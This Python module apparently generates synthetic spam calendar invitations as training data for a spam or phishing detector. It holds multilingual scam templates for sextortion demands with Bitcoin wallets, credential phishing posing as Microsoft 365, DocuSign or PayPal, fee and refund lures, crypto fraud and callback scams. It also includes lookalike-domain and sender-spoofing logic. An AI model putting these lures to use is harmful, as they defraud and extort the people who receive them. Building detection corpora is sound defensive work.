"""Spam categories for the train12 corpus."""
import datetime as dt

from mk import setup, wchoice, place, pick_place, custom_profile, apply_custom_quirks, ev_org
from lex import (money, phone, junk_domain, rand_domain, lookalike, company_lookalike, hosted_url, short_url,
                 track_path, btc, eth, iban, LANG_CC)
from people import person, local_part, org, RCPT_DOMAINS, loc as L10N


class V(dict):
    def __missing__(self, k):
        return "{" + k + "}"


def fill(t, v):
    return t.format_map(v)


def tpl(T, lang, i, r):
    lst = T[lang]
    return lst[i % len(lst)] if lang == "en" else lst[0]


def junk_url(r, d=None):
    return "https://%s%s" % (d or junk_domain(r), track_path(r))


def payload_url(r, brand=None):
    k = r.random()
    if k < 0.35:
        return junk_url(r)
    if k < 0.6:
        return hosted_url(r)
    if k < 0.75:
        return short_url(r)
    return "https://%s%s" % (lookalike(r, brand or r.choice(["secure", "account", "login"])), track_path(r))


def std_custom(r, sp, side="spam", vendor=None, html=None, plain=None, layout=None):
    sp["custom"] = custom_profile(r, side, vendor=vendor, layout=layout)
    sp["custom"]["html"] = html or "<html><body><p>%s</p></body></html>" % (plain or "").replace("\n", "<br>")
    sp["custom"]["plain"] = plain or ""
    apply_custom_quirks(r, sp, side)
    ev = sp["events"][0] if sp["events"] else None
    if ev and sp["cs"] not in ("utf-8", "us-ascii") and r.random() < 0.4:
        from common import can_encode
        if can_encode(ev["summary"] + (ev.get("desc") or "") + (ev["organizer"][0] or ""), sp["cs"]) and \
                all(can_encode(a[0] or "", sp["cs"]) for a in ev["attendees"]):
            sp["cal_cs"] = sp["cs"]
    if r.random() < 0.3:
        sp["method"] = r.choice(["PUBLISH", "PUBLISH", None])


def html_wrap(text, url=None, label=None, brandcolor="#0b5cff"):
    body = text.replace("&", "&amp;").replace("<", "&lt;").replace("\n", "<br>\n")
    btn = ('<p><a href="%s" style="background:%s;color:#fff;padding:10px 20px;text-decoration:none;border-radius:4px">%s</a></p>'
           % (url, brandcolor, label)) if url else ""
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px">'
            '<div style="max-width:600px">%s%s</div></body></html>' % (body, btn))


def mass_attendees(r, rcpt, n, same_domain=True, sort=True):
    dom = rcpt["addr"].split("@")[1]
    out = []
    seen = {rcpt["addr"]}
    doms = [dom] if same_domain else RCPT_DOMAINS["en"] + ["gmail.com", "yahoo.com", "hotmail.com", "outlook.com", "icloud.com", "aol.com", "gmx.de", "web.de", "mail.ru", "qq.com", "naver.com"]
    while len(out) < n:
        lang = r.choice(["en", "en", "de", "fr", "es", "ru", "zh", "ja", "ko", "ar", "hi", "tr", "pt"])
        dn, fl, ll = person(r, lang)
        a = "%s@%s" % (local_part(r, fl, ll), r.choice(doms))
        if a in seen:
            continue
        seen.add(a)
        out.append(a)
    out.append(rcpt["addr"])
    if sort:
        out.sort()
    else:
        r.shuffle(out)
    return out


def att_tuples(org_, addrs):
    L = [(org_[0], org_[1], "ACCEPTED", "REQ-PARTICIPANT", True)]
    L += [("", a, "NEEDS-ACTION", "REQ-PARTICIPANT", True) for a in addrs]
    return L


# ---------------------------------------------------------------------------
T_RETAIL = {
    "en": [("Ray-Ban Sunglasses Clearance – 90% OFF Today Only", "Official outlet clearance. Ray-Ban & Oakley from {amt}. Free shipping worldwide.\nShop now: {url}"),
           ("UGG Boots Black Friday: Only {amt}!!!", "Last day!! Genuine UGG classic boots {amt}, limited stock.\n{url}"),
           ("Michael Kors handbags up to 85% off", "Spring sale at our online store. New arrivals, fast delivery.\nVisit {url}\nTo unsubscribe reply STOP"),
           ("Pandora charms 80% off this week", "Dear customer, enjoy 80% off all charms and bracelets this week only. {url}"),
           ("Flash sale: Nike Air Max {amt} – ends tonight", "Flash sale ends at midnight. Sizes 36-46, all colours.\nOrder at {url}"),
           ("Outdoor furniture liquidation – everything {amt}", "Warehouse liquidation, all patio sets must go this weekend. {url}"),
           ("Canada Goose Parka Outlet – 70% off", "Authentic Canada Goose jackets, 30-day returns, delivery in 5-7 days. {url}")],
    "de": [("Ray-Ban Sonnenbrillen Räumungsverkauf – bis zu 90 % Rabatt", "Nur heute: Markenbrillen ab {amt}. Kostenloser Versand nach Deutschland.\nJetzt bestellen: {url}")],
    "fr": [("Soldes Michael Kors : jusqu'à -85 %", "Dernières pièces en stock ! Sacs à main dès {amt}, livraison gratuite en France.\n{url}")],
    "es": [("Liquidación UGG – botas desde {amt}", "¡Última oportunidad! Botas UGG originales con 80% de descuento. Envío gratis.\nCompra aquí: {url}")],
    "it": [("Outlet Moncler: sconti fino al 75%", "Piumini Moncler da {amt}. Solo per oggi, spedizione gratuita in Italia. {url}")],
    "nl": [("Nike uitverkoop – alles moet weg!", "Sneakers vanaf {amt}, gratis verzending in Nederland en België. Bestel nu via {url}")],
    "ja": [("【本日限定】ブランドバッグ最大90%OFF", "コーチ・ケイトスペード正規品アウトレット。{amt}から。送料無料。\n今すぐチェック→ {url}")],
    "zh-tw": [("【限時特賣】Ray-Ban太陽眼鏡1折起", "官方折扣店清倉，全館{amt}起，免運費。\n立即選購：{url}")],
}


def gen_retail(b, r, lang, i):
    client = wchoice(r, {"icloud": 2, "google": 3, "yahoo": 1, "outlook": 1, "exchange": 1, "custom": 2, "applemail": 1, "gmail": 1})
    y = (2016.0, 2019.5) if r.random() < 0.7 else (2019.5, 2026.9)
    sp = setup(b, r, "spam", "retail-sale", "", lang, client, "free" if client != "custom" else "junk", y=y,
               name=r.choice([None, "Sale Center", "Outlet Store", "Offer %d" % r.randint(1, 99), "VIP Shop"]))
    s, d = tpl(T_RETAIL, lang, i, r)
    url = junk_url(r) if r.random() < 0.7 else short_url(r)
    v = V(amt=money(r, lang, 15, 49), url=url)
    summ, desc = fill(s, v), fill(d, v)
    addrs = mass_attendees(r, sp["rcpt_info"], r.randint(3, 45))
    ev = b.event(sp, summ, desc, loc=url if r.random() < 0.4 else r.choice(["", "Online", "www.%s" % url.split("/")[2]]),
                 days=(0, 2), hour=(8, 20), dur=r.choice([30, 60, 120, 1440]), organizer=ev_org(sp),
                 attendees=att_tuples(ev_org(sp), addrs))
    if client == "custom":
        std_custom(r, sp, html=html_wrap(desc, url, "SHOP NOW", "#d0021b"), plain=desc)
    sp["desc"] = "Sale-wave invitation to %d harvested addresses, link to shop" % len(addrs)
    return sp


T_PRIZE = {
    "en": [("Congratulations {name}! You've been selected", "Your email was chosen to receive a {brand} gift card worth {amt}. Complete a 30-second survey to claim before {date}.\n{url}"),
           ("Reminder: your {brand} loyalty reward expires today", "Dear valued customer, you have 1 unclaimed reward. Answer 4 questions and choose your prize (pay only {amt2} shipping).\nClaim: {url}"),
           ("You have (1) pending delivery: Dyson Airwrap", "Our records show you qualify for a complimentary Dyson Airwrap. Confirm your address: {url}"),
           ("{brand} Customer Survey – receive {amt}", "Thank you for shopping with {brand}. Tell us about your experience and get {amt} credited to your account.\n{url}"),
           ("Spin the wheel – your iPhone 15 Pro is waiting", "Final notice: your spin is reserved for 24 hours only.\n{url}"),
           ("Winner notification #{code}", "Your address was drawn in our monthly draw. Claim your {amt} prize at {url}")],
    "pt": [("Parabéns! Você ganhou um cartão-presente {brand}", "Seu e-mail foi sorteado. Responda à pesquisa rápida e resgate {amt} até {date}.\n{url}")],
    "pl": [("Gratulacje! Wygrałeś bon {brand} o wartości {amt}", "Wypełnij krótką ankietę (30 sekund) i odbierz nagrodę. Oferta ważna do {date}.\n{url}")],
    "ru": [("Поздравляем! Вам начислен бонус {amt}", "Ваш адрес выбран для участия в акции {brand}. Пройдите короткий опрос и получите выплату.\n{url}")],
    "ar": [("تهانينا! لقد فزت ببطاقة هدية من {brand}", "تم اختيار بريدك الإلكتروني للفوز بجائزة قيمتها {amt}. أكمل الاستبيان القصير قبل {date}.\n{url}")],
    "tr": [("Tebrikler! {brand} hediye çekiniz hazır", "E-posta adresiniz çekilişte seçildi. Kısa anketi tamamlayın ve {amt} değerindeki ödülünüzü alın.\n{url}")],
    "th": [("ยินดีด้วย! คุณได้รับบัตรกำนัล {brand}", "อีเมลของคุณได้รับเลือก ตอบแบบสอบถามสั้นๆ เพื่อรับรางวัลมูลค่า {amt} ภายใน {date}\n{url}")],
}
PRIZE_BRANDS = {"en": ["Costco", "Walmart", "Amazon", "Target", "Kohl's", "Starbucks", "Home Depot", "Lowe's", "Aldi"],
                "pt": ["Magazine Luiza", "Americanas"], "pl": ["Biedronka", "Rossmann"], "ru": ["Ozon", "Магнит"],
                "ar": ["Carrefour", "LuLu"], "tr": ["Migros", "Trendyol"], "th": ["Lotus's", "Big C"]}


def gen_prize(b, r, lang, i):
    client = wchoice(r, {"google": 3, "yahoo": 1, "exchange": 3, "custom": 3, "icloud": 1, "nextcloud": 1, "sogo": 1, "zimbra": 1})
    sp = setup(b, r, "spam", "prize-survey", "", lang, client, r.choice(["free", "junk"]) if client in ("custom",) else ("compromised" if client in ("nextcloud", "sogo") else "free"),
               y=(2017.0, 2026.9), name=r.choice([None, "Rewards Team", "Customer Rewards", "Member Services"]))
    s, d = tpl(T_PRIZE, lang, i, r)
    url = payload_url(r)
    brand = r.choice(PRIZE_BRANDS[lang])
    date = (sp["sent"] + dt.timedelta(days=2)).strftime("%d/%m/%Y" if lang != "en" else "%B %d")
    v = V(name=sp["rcpt_info"]["first"], brand=brand, amt=money(r, lang, 50, 1000, cents=False), amt2=money(r, lang, 1, 9),
          url=url, date=date, code=r.digits(6))
    summ, desc = fill(s, v), fill(d, v)
    mode = pick_place(r, client, ["desc", "loc", "url", "xalt"])
    if mode != "desc" and r.random() < 0.6:
        desc = desc.replace(url, "").strip()
    ev = b.event(sp, summ, desc, days=(0, 3), hour=(7, 21), dur=r.choice([15, 30, 60]), organizer=ev_org(sp),
                 others=r.choice([0, 0, 3, 12]))
    place(sp, ev, mode, url, "Claim")
    if client == "custom":
        std_custom(r, sp, html=html_wrap(desc, url, "CLAIM NOW", "#1a8f3c"), plain=desc)
    sp["desc"] = "%s gift/survey lure, link in %s" % (brand, mode)
    return sp


T_CRYPTO = {
    "en": [("Your BTC withdrawal is pending: {btcamt} BTC", "Your account balance of {btcamt} BTC ({amt}) is ready for withdrawal. Log in to confirm within 48h: {url}\nPromo code: {code}"),
           ("Live Webinar: How I turned $250 into $12,000 with AI trading", "Join our live session with certified analysts. Limited seats.\nRegister: {url}"),
           ("Quantum AI – private onboarding call", "Hi {name}, your account manager will call you to activate your trading account (min. deposit $250).\nMeeting link: {url}"),
           ("Cloud mining contract matured – claim payout", "Your mining contract #{code} has matured. Payout: {amt} USDT.\nActivate withdrawal: {url}"),
           ("Exclusive pre-sale: $NOVA token whitelist", "Whitelist closes in 24 hours. Early buyers get 10x allocation. Connect your wallet: {url}"),
           ("Follow-up: your portfolio review", "As discussed on the phone, our senior broker will go through your portfolio returns (+312% YTD) and the next deposit tier.\nJoin: {url}")],
    "de": [("Ihr Krypto-Guthaben wartet: {amt}", "Ihr Konto auf der Handelsplattform wurde aktiviert. Bestätigen Sie die Auszahlung innerhalb von 48 Stunden: {url}")],
    "ru": [("Ваш криптокошелёк: доступно {btcamt} BTC", "На вашем счёте {amt}. Для вывода средств подтвердите личность до {date}: {url}")],
    "ko": [("비트코인 수익 {amt} 출금 대기 중", "회원님의 투자 계정에 수익금이 적립되었습니다. 48시간 이내에 출금을 승인하세요: {url}")],
    "zh": [("【内部消息】AI量化交易群 每日收益8%", "老师带单，稳赚不赔。名额有限，立即加入：{url}\n微信客服：{handle}")],
    "hi": [("आपका क्रिप्टो बोनस {amt} तैयार है", "आपके निवेश खाते में लाभ जमा हो गया है। 24 घंटे के भीतर निकासी की पुष्टि करें: {url}")],
    "tr": [("Kripto hesabınızda {amt} bekliyor", "Yatırım hesabınıza kâr aktarıldı. Çekim işlemini 48 saat içinde onaylayın: {url}")],
}


def gen_crypto(b, r, lang, i):
    client = wchoice(r, {"zoom": 3, "google": 3, "exchange": 3, "custom": 2, "gmail": 1, "icloud": 1, "thunderbird": 1})
    sp = setup(b, r, "spam", "crypto-investment", "", lang, client,
               r.choice(["free", "junk", "compromised"]) if client in ("exchange", "custom", "thunderbird") else "free",
               y=(2017.5, 2026.9), name=r.choice([None, None, "Crypto Desk", "Account Manager", "Investor Relations"]))
    s, d = tpl(T_CRYPTO, lang, i, r)
    dom = r.choice(["%s-trade.%s", "%sbit.%s", "%s-capital.%s", "%sx-exchange.%s"]) % (r.choice(["nova", "quant", "apex", "coin", "zen", "lux", "bit", "orbit"]), r.choice(["com", "io", "net", "pro", "app", "vip"]))
    url = "https://%s%s" % (dom, track_path(r)) if r.random() < 0.7 else payload_url(r)
    v = V(name=sp["rcpt_info"]["first"], btcamt="%.4f" % r.uniform(0.3, 2.9), amt=money(r, lang, 3000, 90000, cents=False),
          url=url, code=r.alnum(6).upper(), date=(sp["sent"] + dt.timedelta(days=2)).strftime("%d.%m.%Y"),
          handle="wx" + r.lower(7))
    summ, desc = fill(s, v), fill(d, v)
    ev = b.event(sp, summ, desc, days=(0, 5), hour=(9, 21), dur=r.choice([45, 60, 90]), organizer=ev_org(sp),
                 others=r.choice([0, 0, 5, 20]))
    mode = pick_place(r, client, ["loc", "desc", "conf", "url"])
    place(sp, ev, mode, url, "Join webinar")
    if client == "zoom":
        sp["subject"] = summ + " Confirmation"
        sp["html_body"] = "Hi %s,<br><br>Thank you for registering for &quot;%s&quot;.<br><br>%s" % (sp["rcpt_info"]["first"], summ, desc.replace("\n", "<br>"))
        sp["method"] = "PUBLISH"
    if client == "custom":
        std_custom(r, sp, html=html_wrap(desc, url, "Withdraw", "#f7931a"), plain=desc)
    sp["desc"] = "Crypto/investment fraud, link via %s" % mode
    return sp


T_DATING = {
    "en": [("Anna (26) wants to meet you tonight", "Hi babe, I saw your profile. I'm free tonight, here are my private pics: {url}"),
           ("Your account has been hacked – read carefully", "I have access to your device and recorded you through your webcam while you visited adult websites. Send {amt} in Bitcoin to {wallet} within 48 hours or the video goes to all your contacts. Do not reply to this invitation."),
           ("New message from Katya \u2764", "You have 3 unread messages and 1 photo request. Reply here: {url}"),
           ("Payment required: {code}", "I know your password: {pw}. I have a video of you. Transfer {amt} (BTC) to: {wallet}\nYou have 2 days. The timer started when you opened this event."),
           ("Security notice for {rcpt}", "Hello. I am a hacker who gained access to your email {rcpt} and your device. Pay {amt} to BTC address {wallet} and I will delete everything. Otherwise your family gets the files.")],
    "es": [("Laura (24) quiere conocerte esta noche", "Hola guapo, vi tu perfil. Estoy sola esta noche, mira mis fotos privadas: {url}")],
    "fr": [("Avertissement : votre appareil a été piraté", "J'ai enregistré une vidéo de vous via votre webcam. Envoyez {amt} en Bitcoin à l'adresse {wallet} sous 48 heures, sinon la vidéo sera envoyée à tous vos contacts.")],
    "el": [("Η Ελένη σού έστειλε μήνυμα \u2764", "Γεια σου! Είδα το προφίλ σου και θέλω να γνωριστούμε απόψε. Δες τις φωτογραφίες μου εδώ: {url}")],
    "ja": [("あなたのデバイスはハッキングされました", "あなたのウェブカメラで録画した動画を持っています。48時間以内に{amt}相当のビットコインを次のアドレスに送金してください：{wallet}")],
    "he": [("הודעה חדשה מדנה \u2764", "היי, ראיתי את הפרופיל שלך ואני פנויה הערב. התמונות שלי כאן: {url}")],
}


def gen_dating(b, r, lang, i):
    s, d = tpl(T_DATING, lang, i, r)
    sextortion = "{wallet}" in d
    if sextortion:
        client = wchoice(r, {"custom": 3, "outlook": 2, "thunderbird": 1, "gmail": 1, "exchange": 1, "google": 1})
        dmode = "spoof" if client in ("custom", "outlook", "thunderbird") else "free"
    else:
        client = wchoice(r, {"icloud": 2, "google": 3, "yahoo": 2, "applemail": 1, "custom": 1})
        dmode = "free" if client != "custom" else "junk"
    rc = b.recipient(lang)
    kw = {}
    name = None
    if dmode == "spoof":
        kw["spoof_domain"] = rc["addr"].split("@")[1]
        name = ""
    sp = setup(b, r, "spam", "dating-sextortion", "", lang, client, dmode, rcpt=rc, name=name, y=(2016.0, 2026.9), **kw)
    if dmode == "spoof":
        sp["frm"] = (r.choice(["", rc["name"]]), rc["addr"])
        sp["snd"]["addr"] = rc["addr"]
        sp["org_"] = sp["frm"]
    url = payload_url(r)
    v = V(url=url, amt=money(r, "en", 900, 2500, cents=False), wallet=btc(r), code=r.digits(6), rcpt=rc["addr"],
          pw=r.choice(["summer2019", "Bella123!", "qwerty88", "iloveyou7"]))
    summ, desc = fill(s, v), fill(d, v)
    ev = b.event(sp, summ, desc, days=(0, 2), hour=(18, 23), dur=r.choice([30, 60]), organizer=ev_org(sp),
                 attendees=[(sp["frm"][0], sp["frm"][1], "ACCEPTED", "REQ-PARTICIPANT", True),
                            ("", rc["addr"], "NEEDS-ACTION", "REQ-PARTICIPANT", True)] if dmode != "spoof" else
                 [("", rc["addr"], "NEEDS-ACTION", "REQ-PARTICIPANT", True)])
    if not sextortion:
        mode = pick_place(r, client, ["desc", "loc", "url"])
        place(sp, ev, mode, url)
    if client == "custom":
        std_custom(r, sp, plain=desc, layout=r.choice(["mixed-plain-ics", "alt-plain-cal", "single-cal"]))
    sp["desc"] = "Sextortion demand with BTC wallet, sender spoofs the recipient" if sextortion and dmode == "spoof" else (
        "Sextortion demand with BTC wallet" if sextortion else "Dating lure with photo link")
    return sp


T_FEE = {
    "en": [("Unpaid toll notice – balance {amt}", "Our records show an unpaid toll for your vehicle on {brand}. Pay {amt} by {date} to avoid a $50 late fee.\nPay online: {url}"),
           ("USPS: Your package is on hold", "Your parcel could not be delivered because of an incomplete address. A redelivery fee of {amt} is required.\nUpdate details: {url}"),
           ("HMRC: You are eligible for a tax refund of {amt}", "After the annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund.\nSubmit your claim: {url}"),
           ("Penalty Charge Notice – vehicle {plate}", "A penalty charge has been issued for vehicle {plate}. Pay {amt} within 14 days or the charge increases.\n{url}"),
           ("DHL Express: import duty payment required", "Shipment {code} is held at customs. Import duty due: {amt}.\nPay now: {url}"),
           ("IRS Notice: refund adjustment pending", "Verify your identity to release your refund of {amt}. Reference {code}.\n{url}")],
    "de": [("DHL: Zollgebühr für Ihre Sendung {code}", "Ihre Sendung wird beim Zoll festgehalten. Bitte zahlen Sie die Einfuhrabgabe von {amt} bis {date}: {url}")],
    "fr": [("Avis de contravention – paiement en attente", "Un avis de contravention a été émis pour votre véhicule {plate}. Réglez {amt} avant le {date} pour éviter une majoration : {url}")],
    "it": [("Poste Italiane: pacco in giacenza", "Il tuo pacco {code} è in giacenza per indirizzo incompleto. Paga {amt} per la riconsegna: {url}")],
    "es": [("Correos: su envío está retenido", "Su paquete {code} está pendiente del pago de tasas de aduana ({amt}). Pague antes del {date}: {url}")],
    "nl": [("Belastingdienst: u heeft recht op een teruggave", "Na de jaarlijkse berekening heeft u recht op een teruggave van {amt}. Vraag deze aan via {url}")],
    "pl": [("InPost: dopłata do przesyłki {code}", "Twoja paczka oczekuje na dopłatę {amt}. Opłać do {date}, inaczej wróci do nadawcy: {url}")],
    "pt": [("CTT: encomenda retida – taxa alfandegária", "A sua encomenda {code} aguarda o pagamento de {amt}. Pague até {date}: {url}")],
}
FEE_BRAND = {"en": ["E-ZPass", "SunPass", "FasTrak", "The Toll Roads", "TxTag"], "de": ["DHL"], "fr": ["ANTAI"], "it": ["Poste Italiane"],
             "es": ["Correos"], "nl": ["Belastingdienst"], "pl": ["InPost"], "pt": ["CTT"]}


def gen_fee(b, r, lang, i):
    client = wchoice(r, {"custom": 5, "google": 2, "exchange": 2, "icloud": 1, "zimbra": 1, "gmail": 1, "yahoo": 1, "outlook": 1})
    brand = r.choice(FEE_BRAND[lang])
    dmode = r.choice(["lookalike", "junk", "spoof"]) if client == "custom" else ("compromised" if client in ("exchange", "zimbra") else "free")
    bl = brand.split()[0].lower().replace("-", "")
    sp = setup(b, r, "spam", "fee-scam", "", lang, client, dmode, y=(2018.0, 2026.9), brand=bl,
               spoof_domain=r.choice(["%s.com" % bl, "notice.%s.example" % bl]),
               name=r.choice([brand, brand + " Service", "Customer Service", None]))
    s, d = tpl(T_FEE, lang, i, r)
    url = "https://%s%s" % (lookalike(r, bl), track_path(r)) if r.random() < 0.6 else payload_url(r, bl)
    v = V(brand=brand, amt=money(r, lang, 1.5, 12.9) if "refund" not in s and "teruggave" not in s else money(r, lang, 180, 900),
          url=url, date=(sp["sent"] + dt.timedelta(days=r.randint(1, 3))).strftime("%d/%m/%Y" if lang != "en" else "%m/%d/%Y"),
          code=r.choice(["JJD", "RR", "CX", "LX"]) + r.digits(9), plate=r.alnum(3).upper() + "-" + r.digits(4))
    summ, desc = fill(s, v), fill(d, v)
    ev = b.event(sp, summ, desc, days=(0, 3), hour=(8, 18), dur=r.choice([15, 30, 60]), organizer=ev_org(sp), others=0,
                 todo=client == "custom" and r.random() < 0.25)
    mode = pick_place(r, client, ["desc", "url", "loc", "xalt"])
    place(sp, ev, mode, url, "Pay now")
    if client == "custom":
        std_custom(r, sp, html=html_wrap(desc, url, "Pay %s" % v["amt"], "#ffcc00"), plain=desc)
    sp["desc"] = "%s fee/refund lure via %s sender, link in %s" % (brand, dmode if client == "custom" else client, mode)
    return sp


T_CRED = {
    "en": [("Password Expiration Notice – {rcpt}", "Your Microsoft 365 password expires today. Keep your current password to avoid losing access to email and Teams.\n\nKeep Same Password: {url}"),
           ("Please DocuSign: {doc}", "{sender} sent you a document to review and sign.\n\nREVIEW DOCUMENT: {url}\n\nDo not share this email. It contains a secure link to DocuSign."),
           ("PayPal: account access limited", "We noticed unusual activity on your account. Confirm your information within 24 hours to restore full access.\n{url}"),
           ("Secure message from {bank}", "You have 1 new secure message regarding your account. Sign in to read it: {url}"),
           ("{sender} shared \"{doc}\" with you", "{sender} has shared a PDF with you via Adobe Document Cloud.\nOpen: {url}"),
           ("New voicemail (0:43) from +1 ***-***-{d4}", "You received a voice message. Listen with your Microsoft 365 account: {url}"),
           ("2024 Salary Adjustment – HR", "HR has shared the annual salary adjustment letter. Sign in with your company account to view it before Friday: {url}"),
           ("Dropbox: {doc} was shared with you", "Click to view the file. The link expires in 3 days.\n{url}")],
    "de": [("Ihr Postfach ist fast voll", "Ihr Microsoft 365-Postfach hat 98 % der Kapazität erreicht. Eingehende E-Mails werden zurückgehalten.\nSpeicher jetzt bestätigen: {url}")],
    "fr": [("Document partagé : {doc}", "{sender} a partagé un document avec vous via OneDrive. Connectez-vous pour le consulter : {url}")],
    "ja": [("【重要】アカウントの確認が必要です", "お客様のアカウントで不審なログインが検出されました。24時間以内に本人確認を行ってください：{url}")],
    "ko": [("[보안 알림] 비밀번호가 오늘 만료됩니다", "회원님의 메일 계정 비밀번호가 오늘 만료됩니다. 현재 비밀번호를 유지하려면 확인하세요: {url}")],
    "zh": [("【邮箱升级通知】请立即验证您的账户", "您的企业邮箱将于今日停用，请点击以下链接进行验证以保留邮件：{url}")],
    "ar": [("تنبيه أمني: تم تعليق حسابك المصرفي مؤقتًا", "لاحظنا نشاطًا غير معتاد في حسابك. يرجى تأكيد بياناتك خلال 24 ساعة: {url}")],
    "el": [("Κοινοποιήθηκε έγγραφο: {doc}", "Ο/Η {sender} μοιράστηκε ένα έγγραφο μαζί σας. Συνδεθείτε για να το δείτε: {url}")],
    "he": [("התראת אבטחה: נדרש אימות חשבון", "זיהינו ניסיון התחברות חריג לחשבונך. יש לאמת את פרטיך תוך 24 שעות: {url}")],
}
DOCS = ["Payment_Advice_%s.pdf", "Invoice_%s.pdf", "Contract_Amendment_%s.docx", "RFQ-%s.pdf", "Remittance-%s.pdf",
        "Q3_Statement_%s.pdf", "Purchase_Order_%s.pdf", "NDA_%s.pdf"]
BANKS = ["Chase", "Wells Fargo", "Bank of America", "Barclays", "HSBC", "Santander", "Lloyds", "TD Bank", "Capital One"]


def cred_name(r, s):
    for k, names in (("DocuSign", ["DocuSign", "DocuSign via DocuSign", "DocuSign eSignature"]), ("PayPal", ["PayPal", "PayPal Service"]),
                     ("Password", ["IT Service Desk", "Microsoft 365", "Mail Administrator"]), ("voicemail", ["Voice Mail", "Microsoft Teams"]),
                     ("HR", ["HR Department", "Human Resources"]), ("Dropbox", ["Dropbox"]), ("Secure message", ["Online Banking", "Secure Messaging"])):
        if k in s:
            return r.choice(names + [None])
    return r.choice([None, None, "IT Service Desk", "Mail Administrator", "Support"])


def gen_cred(b, r, lang, i):
    client = wchoice(r, {"exchange": 4, "google": 3, "custom": 3, "outlook": 1, "zimbra": 1, "sogo": 1, "nextcloud": 1, "thunderbird": 1, "applemail": 1})
    s, d = tpl(T_CRED, lang, i, r)
    brand = r.choice(["microsoft", "office365", "docusign", "adobe", "dropbox", "paypal", "sharepoint", "onedrive"])
    dmode = {"exchange": r.choice(["compromised", "compromised", "lookalike"]), "google": r.choice(["free", "compromised"]),
             "custom": r.choice(["lookalike", "spoof", "junk"])}.get(client, "compromised")
    rc = b.recipient(lang)
    sp = setup(b, r, "spam", "credential-phishing", "", lang, client, dmode, rcpt=rc, y=(2016.0, 2026.9), brand=brand,
               spoof_domain=rc["addr"].split("@")[1] if r.random() < 0.5 else r.choice(["docusign.net", "microsoft.com", "paypal.com", "adobe.com"]),
               name=cred_name(r, s))
    if dmode == "spoof" and sp["snd"]["domain"] == rc["addr"].split("@")[1]:
        lp = r.choice(["it-support", "helpdesk", "no-reply", "admin", "hr"])
        sp["frm"] = (sp["frm"][0] or "IT Support", "%s@%s" % (lp, sp["snd"]["domain"]))
        sp["org_"] = sp["frm"]
    url = payload_url(r, brand)
    if r.random() < 0.25:
        url = url.split("?")[0] + "#" + rc["addr"]  # victim e-mail pre-filled
    sndname = person(r, lang)[0]
    v = V(rcpt=rc["addr"], url=url, sender=sndname, doc=r.choice(DOCS) % r.digits(5), bank=r.choice(BANKS), d4=r.digits(4))
    summ, desc = fill(s, v), fill(d, v)
    mode = pick_place(r, client, ["attach", "xalt", "url", "conf", "loc", "desc"])
    if mode not in ("desc",) and r.random() < 0.7:
        desc = desc.replace(url, "").replace(": \n", "\n").rstrip(": \n")
        if lang == "en" and r.random() < 0.5:
            desc += "\n\nOpen the attachment in this invitation."
    ev = b.event(sp, summ, desc, days=(0, 2), hour=(8, 17), dur=r.choice([15, 30, 30, 60]), organizer=ev_org(sp),
                 others=r.choice([0, 0, 0, 4, 9]))
    place(sp, ev, mode, url, r.choice(["Review Document", "Open", "Keep Same Password", "View"]),
          fmt=r.choice(["application/pdf", "text/html", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"]),
          fname=v["doc"] if mode == "attach" else None)
    if client == "custom":
        std_custom(r, sp, html=html_wrap(desc, url, "Review Document", "#ffc820"), plain=desc)
        if r.random() < 0.4:
            sp["custom"]["layout"] = "single-cal"
    if client == "exchange" and mode == "desc" and r.random() < 0.5:
        sp["link_text"] = {url: r.choice(["https://%s.sharepoint.com/:b:/g/personal/" % rc["addr"].split("@")[1].split(".")[0], "View Document", "Keep Same Password"])}
    sp["desc"] = "Credential phishing (%s theme) from %s sender, link in %s" % (brand, dmode, mode)
    return sp


T_CALLBACK = {
    "en": [("Norton 360 – Subscription Renewed (Invoice #{code})", "Thank you for renewing Norton 360 Total Protection.\n{amt} has been charged to your account today.\nIf you did not authorize this, call our billing desk at {phone} within 24 hours."),
           ("PayPal Invoice: {amt} due", "You have a new invoice from Geek Squad Services.\nAmount: {amt}\nIf you did not make this purchase, contact PayPal support at {phone}."),
           ("Your McAfee plan auto-renewed", "Order {code}\nAmount {amt}\nTo cancel and receive a full refund call {phone}."),
           ("Microsoft Defender: threat detected on your PC", "Your license expired and 5 threats were found. Call certified support at {phone} now. Do not restart your computer."),
           ("Prime membership charge {amt}", "Your annual membership was renewed. Questions? Call {phone} (24/7)."),
           ("Order confirmation – iPhone 15 Pro Max", "Your order {code} ({amt}) will ship to Lagos, NG.\nNot you? Call {phone} immediately.")],
    "de": [("Ihr Norton-Abo wurde verlängert – Rechnung {code}", "Vielen Dank für Ihre Verlängerung. {amt} wurden heute abgebucht.\nNicht veranlasst? Rufen Sie uns an: {phone}")],
    "fr": [("Confirmation de commande {code}", "Votre abonnement McAfee a été renouvelé pour {amt}. Pour annuler, appelez le {phone}.")],
    "it": [("Rinnovo abbonamento Microsoft 365 – {amt}", "Il tuo abbonamento è stato rinnovato automaticamente. Per annullare chiama il {phone} entro 24 ore.")],
    "nl": [("Factuur {code}: jaarabonnement verlengd", "Er is {amt} afgeschreven voor uw antivirusabonnement. Niet herkend? Bel direct {phone}.")],
    "pt": [("Confirmação de pagamento – {amt}", "Você enviou um pagamento de {amt} para Geek Squad. Não reconhece? Ligue para {phone}.")],
    "zh-tw": [("訂單確認：年度訂閱已續約", "您的防毒軟體訂閱已自動續約，金額{amt}。如需取消請於24小時內撥打 {phone}。")],
}


def gen_callback(b, r, lang, i):
    client = wchoice(r, {"google": 4, "icloud": 1, "yahoo": 1, "exchange": 2, "gmail": 1, "custom": 2, "outlook": 1})
    sp = setup(b, r, "spam", "callback-scam", "", lang, client, "free" if client != "custom" else r.choice(["junk", "spoof"]),
               y=(2019.0, 2026.9), spoof_domain=r.choice(["paypal.com", "norton.com", "service.paypal.com"]),
               name=r.choice([None, "Billing Department", "PayPal", "Norton Support", "Invoice Center", "Geek Squad"]))
    s, d = tpl(T_CALLBACK, lang, i, r)
    cc = r.choice(["us", "us", "us-plain", LANG_CC[lang]]) if lang != "en" else r.choice(["us", "us-plain", "uk"])
    ph = phone(r, cc)
    if r.random() < 0.3:
        ph = ph.replace(" ", " ").replace("-", " - ")
    v = V(code=r.choice(["NRT", "INV", "MC", "GS", ""]) + r.digits(8), amt=money(r, lang if lang != "en" else "en", 289, 799), phone=ph)
    summ, desc = fill(s, v), fill(d, v)
    ev = b.event(sp, summ, desc, days=(0, 1), hour=(8, 20), dur=r.choice([15, 30, 60]), organizer=ev_org(sp),
                 others=r.choice([0, 0, 2, 30]))
